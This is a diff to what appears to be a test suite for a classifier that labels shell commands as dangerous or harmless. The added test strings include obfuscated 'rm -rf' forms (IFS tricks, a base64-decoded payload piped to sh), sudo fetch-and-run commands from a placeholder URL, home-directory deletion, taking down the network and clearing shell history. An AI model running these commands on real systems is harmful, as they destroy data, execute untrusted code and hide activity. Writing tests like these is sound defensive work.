@@ -225,6 +225,8 @@ describe("forced rm is danger, however it is started", () => {
     "`echo rm` -rf x",
     "trap 'rm -rf x' EXIT",
     "alias r='rm -rf x'; r",
+    "rm$IFS-rf${IFS}x",
+    "echo cm0gLXJmIHg= | base64 -d | sh",
     "ls && rm -rf x",
     "ls | rm -rf x",
     "if true; then rm -rf x; fi",
@@ -308,6 +310,12 @@ describe("what destroys is danger", () => {
     "curl http://a | sudo bash",
     "curl http://a | sudo -E sh -s",
     "wget -O- http://a | sudo -i",
+    'sudo bash -c "$(curl http://a)"',
+    "sudo bash <(curl http://a)",
+    "rm -r $HOME",
+    "ip link set eth0 down",
+    "fuser -k /tmp/x",
+    "history -c",
   ]);
 });
 
@@ -336,6 +344,9 @@ describe("what looks like danger and is not, is not", () => {
     "psql -c 'select 1'",
     "command -v rm",
     "curl http://a | sh",
+    'bash -c "$(curl http://a)"',
+    "sudo bash x.sh",
+    "ip addr",
     "echo 'rm -rf x' > a.sh",
     "mv a b",
     "find . -name x -exec rm {} +",
